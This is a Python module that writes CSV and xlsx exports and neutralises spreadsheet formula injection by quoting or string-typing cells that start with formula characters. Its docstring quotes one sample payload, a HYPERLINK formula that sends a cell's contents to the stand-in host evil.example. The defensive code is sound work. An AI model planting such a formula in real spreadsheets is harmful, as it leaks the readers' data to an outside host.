"""CSV and xlsx writers of reports and exports.

Office, officer and procedure names come from outside (the one-stop system's files): a name
such as `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` must reach the reader's
spreadsheet as text, never as a formula it runs. So every text cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return is written as text: in CSV prefixed with `'` (what
spreadsheets show as a text marker), in xlsx as a string cell. Numbers stay numbers, negative
ones included.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: text a spreadsheet would read as a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(handle: IO[str], columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    for line in csv_lines(columns, rows):
        handle.write(line)


def csv_lines(columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The CSV text of `write_csv`, one line at a time (the web streams it as it comes)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in itertools.chain([columns], rows):
        writer.writerow([csv_cell(c) for c in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def write_xlsx(
    target: Any, columns: Sequence[Any], rows: Iterable[Sequence[Any]], *, sheet_name: str
) -> None:
    """One sheet, streamed (openpyxl's write-only mode), to a path or a binary file."""
    import openpyxl  # imported here: only xlsx output pays for it

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name)
    sheet.append(_xlsx_row(sheet, columns))
    for row in rows:
        sheet.append(_xlsx_row(sheet, row))
    book.save(target)


def _xlsx_row(sheet: Any, values: Sequence[Any]) -> list[Any]:
    # openpyxl makes any str starting with "=" a formula cell; such text goes in a cell
    # whose type is set back to string. Other text (starting with +, - or @) is a string
    # cell already: xlsx keeps formulas apart from text, unlike CSV.
    if not any(isinstance(v, str) and v.startswith("=") for v in values):
        return list(values)
    from openpyxl.cell import WriteOnlyCell

    cells: list[Any] = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(value)
    return cells
